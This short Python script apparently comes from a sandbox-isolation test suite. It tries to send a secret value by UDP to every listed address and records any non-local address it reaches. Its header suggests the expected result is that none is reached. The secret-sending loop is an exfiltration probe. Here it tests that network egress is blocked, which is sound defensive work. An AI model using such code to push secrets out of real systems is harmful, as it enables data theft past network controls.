# none: reached
import socket
from attack import done, facts, reached

for address in facts["addresses"][1:] or ["127.0.0.1"]:
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        client.sendto(facts["secret"].encode(), (address, facts["udp"]))
    except OSError:
        continue
    if address != "127.0.0.1":
        reached(f"UDP {address}")
client.sendto(b"x", ("127.0.0.1", facts["udp"]))  # goes nowhere: the test looks at the host's port
done()
